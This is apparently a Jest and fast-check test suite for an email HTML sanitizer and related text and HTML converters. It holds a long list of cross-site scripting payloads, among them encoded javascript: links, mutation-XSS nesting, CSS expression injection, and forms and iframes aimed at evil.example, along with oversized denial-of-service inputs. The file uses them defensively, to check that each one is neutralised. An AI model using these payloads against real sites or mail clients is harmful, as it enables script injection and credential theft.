import fc from 'fast-check';
import { htmlToText } from './html-to-text';
import { mailAttributes, mailTags } from './mail-allow-list';
import { sanitizeMailHtml } from './sanitize-mail-html';
import { textToHtml } from './text-to-html';
import { withRemotePictures } from './with-remote-pictures';

/** What is quadratic takes minutes; a busy machine takes seconds for the rest. */
const farTooLongMs = 25_000;

const clean = (html: string, options = {}) => sanitizeMailHtml(html, options).html;

/** Reads tags and attributes of well-formed output with a second, independent reader that fails on anything odd. */
function expectHarmless(html: string): void {
  const voids = new Set(['br', 'hr', 'img', 'col', 'wbr']);
  let rest = html;
  while (rest.includes('<')) {
    rest = rest.slice(rest.indexOf('<'));
    const tag = /^<(\/?)([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)( \/)?>/.exec(rest);
    if (!tag) throw new Error(`not a well-formed tag: ${rest.slice(0, 80)}`);
    const [whole, closing, name = '', attributes = ''] = tag;
    expect(mailTags).toContain(name);
    if (closing) expect(voids).not.toContain(name);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      expect([...(mailAttributes[name] ?? []), ...(mailAttributes['*'] ?? [])]).toContain(attribute);
      if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/i);
      if (attribute === 'src' || attribute === 'data-src') expect(value).toMatch(/^(https?:\/\/|\/files\/)/i);
      if (attribute === 'style') expect(value).not.toMatch(/url|expression|@|\\|position|behavior|import|var\(/i);
    }
    rest = rest.slice(whole.length);
  }
}

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg/onload=alert(1)//',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(1)>',
  '<img/src="https://e.example/x"/onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<img src=" \u0001javascript:alert(1)">',
  '<img srcset="https://e.example/a 1x, javascript:alert(1) 2x">',
  '<img data-src="javascript:alert(1)" src="">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&amp;#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/msp/settings/delete">x</a>',
  '<a href="https://e.example/&quot;onclick=&quot;alert(1)">x</a>',
  '<a href=https://e.example onclick=alert(1)>x</a>',
  '<a id=x name=body class=modal>x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image:url(https://e.example/track.gif)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:9999px;z-index:9999">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<div style="color:\\72 ed; background:\\75rl(x)">x</div>',
  '<style>@import "https://e.example/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href=https://e.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<select><option><script>alert(1)</script></option></select>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>x</body>',
  '<table background="https://e.example/x"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '<x onclick=alert(1)>y</x>',
  '<a\u0000href="javascript:alert(1)">x',
  '<<a href="javascript:alert(1)">>x',
  '"><img src=x onerror=alert(1)>',
  '<b <script>alert(1)</script>0',
  '<div onmouseover',
];

describe('sanitizeMailHtml', () => {
  it.each(hostile)('makes harmless: %s', (html) => {
    const safe = clean(html);
    expectHarmless(safe);
    expect(safe.replace(/&[a-z#0-9]+;/gi, ' ')).not.toMatch(/<script|onerror\s*=\s*["']?alert.*>|javascript:/i);
    expect(clean(safe)).toBe(safe);
  });

  it('makes any mixture of hostile pieces harmless', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom('<', '>', '"', "'", '</', '<!--', '-->', ' on'),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const safe = clean(pieces.join(''));
        expectHarmless(safe);
      }),
      { numRuns: 500 },
    );
  });

  it('keeps what a mail is made of', () => {
    const html =
      '<h2>Offer</h2><p style="color:#333333;text-align:center">Dear <b>Amy</b>,<br />see <i>below</i></p>' +
      '<ul><li>one</li></ul><table border="1"><tbody><tr><td colspan="2" style="padding:4px 8px">x</td></tr></tbody></table>' +
      '<blockquote>old</blockquote><pre>  code</pre>';
    expect(clean(html)).toBe(html);
  });

  it('keeps plain styles and drops each of the others by itself', () => {
    const style =
      'COLOR: Red !important; width:expression(1); background: url(x); margin:0 auto; padding:-5px; top:1px';
    expect(clean(`<p style="${style}">x</p>`)).toBe('<p style="color:Red;margin:0 auto">x</p>');
    expect(clean('<p style="position:fixed">x</p>')).toBe('<p>x</p>');
  });

  it('opens links in a window that can not reach back', () => {
    expect(clean('<a href="https://e.example/?a=1&amp;b=2" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://e.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(clean('<a href="mailto:a@b.example">x</a>')).toContain('href="mailto:a@b.example"');
    expect(clean('<a href="/inside">x</a>')).toBe('<a>x</a>');
  });

  it('holds back pictures from other servers and counts them', () => {
    const html = '<img src="https://e.example/a.png" alt="A" width="10"><img src="HTTP://e.example/pixel.gif">';
    const blocked = sanitizeMailHtml(html);
    expect(blocked.blockedImages).toBe(2);
    expect(blocked.html).not.toMatch(/ src=/);
    expect(blocked.html).toContain('data-src="https://e.example/a.png"');
    const shown = sanitizeMailHtml(html, { showRemoteImages: true });
    expect(shown.blockedImages).toBe(0);
    expect(shown.html).toContain(' src="https://e.example/a.png"');
    expect(shown.html).toContain('referrerpolicy="no-referrer"');
    expect(clean(blocked.html, { showRemoteImages: true })).toBe(shown.html);
  });

  it('shows pictures of the mail itself through the given address', () => {
    const cidUrl = (contentId: string) => (contentId === 'pic@client' ? '/files/1?x="y' : null);
    expect(clean('<img src="cid:pic@client" alt="P">', { cidUrl })).toBe('<img alt="P" src="/files/1?x=&quot;y" />');
    expect(clean('<img src="CID:pic%40client">', { cidUrl })).toContain('src="/files/1');
    expect(clean('<img src="cid:other" alt="P">', { cidUrl })).toBe('<img alt="P" />');
    expect(clean('<img src="cid:%E0%A4%A">', { cidUrl })).toBe('<img alt="" />');
    expect(clean('<img src="cid:pic@client">')).toBe('<img alt="" />');
  });

  it('cuts what is over a million characters and closes its tags', () => {
    const cut = sanitizeMailHtml(`<div><p>${'word '.repeat(300_000)}</p></div>`);
    expect(cut.truncated).toBe(true);
    expect(cut.html.length).toBeLessThan(1_000_100);
    expect(cut.html).toMatch(/<\/p><\/div>$/);
  });

  it.each([
    ['nesting', '<b>'.repeat(330_000)],
    ['nesting with strange ends', `${'<b>'.repeat(160_000)}${'</i>'.repeat(120_000)}`],
    ['nesting hidden in attributes', '<b title="></b>">'.repeat(58_000)],
    ['open brackets', '<'.repeat(1_000_000)],
    ['open tags', '<a '.repeat(330_000)],
    ['open comments', '<!--'.repeat(250_000)],
    ['entities', '&lt'.repeat(330_000)],
    ['styles', '<p style="color:red;width:1px">x</p>'.repeat(27_000)],
    ['one long style', `<p style="${'color:red;'.repeat(90_000)}">x</p>`],
    ['attributes', `<p ${'a=1 '.repeat(240_000)}>x</p>`],
  ])('is done soon with a million characters of %s', (_name, html) => {
    const started = performance.now();
    const safe = clean(html);
    expect(performance.now() - started).toBeLessThan(farTooLongMs);
    expectHarmless(safe.length > 50_000 ? safe.slice(0, safe.lastIndexOf('<', 50_000)) : safe);
  });

  it('shows text that is nested too deep, without its tags', () => {
    expect(clean(`${'<div>'.repeat(400)}Hello <script>x</script>`)).toBe('<p>Hello x</p>');
  });
});

describe('withRemotePictures', () => {
  it('lets in what was held back, in pictures only, without telling from where', () => {
    const html = clean('<p>data-src="x" <img src="https://e.example/a.png?x=1&y=2" width="9"></p>');
    expect(withRemotePictures(html)).toBe(
      '<p>data-src="x" <img alt="" width="9" loading="lazy" referrerpolicy="no-referrer" src="https://e.example/a.png?x=1&amp;y=2" /></p>',
    );
  });

  it.each(hostile)('adds no harm to: %s', (html) => expectHarmless(withRemotePictures(clean(html))));
});

describe('textToHtml', () => {
  it('escapes, breaks lines and keeps spaces', () => {
    expect(textToHtml('a <b>&"\'\r\nc\n\n\n  d')).toBe('<p>a &lt;b&gt;&amp;&quot;&#39;<br>c</p><p> &nbsp;d</p>');
    expect(textToHtml(' \n ')).toBe('');
  });

  it('links web and mail addresses without the punctuation around them', () => {
    const html = textToHtml('See (https://e.example/a_(b)?x=1&y=2), or amy@client.example.');
    expect(html).toContain(
      '<a href="https://e.example/a_(b)?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow">',
    );
    expect(html).toContain('<a href="mailto:amy@client.example"');
    expect(html).toMatch(/<\/a>\.<\/p>$/);
    expect(textToHtml('(https://e.example/x).')).toContain('href="https://e.example/x"');
    expect(textToHtml('javascript:alert(1) ftp://x')).not.toContain('<a');
  });

  it('never yields anything but paragraphs, breaks and links, and loses no text', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom(...hostile)), (text) => {
        const html = textToHtml(text);
        expectHarmless(html);
        const back = html
          .replace(/<br>|<\/p><p>/g, ' ')
          .replace(/<[^>]*>/g, '')
          .replace(/&nbsp;/g, ' ')
          .replace(/&lt;/g, '<')
          .replace(/&gt;/g, '>')
          .replace(/&quot;/g, '"')
          .replace(/&#39;/g, "'")
          .replace(/&amp;/g, '&');
        const squeezed = (value: string) => value.replace(/\s+/g, '');
        expect(squeezed(back)).toBe(squeezed(text));
      }),
    );
  });

  it.each([
    'a'.repeat(1_000_000),
    'a@'.repeat(500_000),
    `http://${'a.'.repeat(500_000)}`,
    '\n \n'.repeat(330_000),
    '.'.repeat(1_000_000),
  ])('is quick on a million characters', (text) => {
    const started = performance.now();
    textToHtml(text);
    expect(performance.now() - started).toBeLessThan(farTooLongMs);
  });
});

describe('htmlToText', () => {
  it('keeps the sense of the text', () => {
    const text = htmlToText(
      '<h1>Invoice</h1><p>Dear Amy,<br>pay <a href="https://e.example/pay">here</a> or at ' +
        '<a href="https://e.example">https://e.example</a></p><ul><li>one</li><li>two</li></ul><img src="cid:x" alt="logo">' +
        '<script>alert(1)</script><style>p{}</style>',
    );
    expect(text).toBe(
      'Invoice\n\nDear Amy,\npay here (https://e.example/pay) or at https://e.example\n\n * one\n * two',
    );
  });

  it('is done soon with nesting made to be slow', () => {
    const started = performance.now();
    expect(htmlToText('<b>x'.repeat(250_000))).toContain('x');
    expect(performance.now() - started).toBeLessThan(farTooLongMs);
  });
});
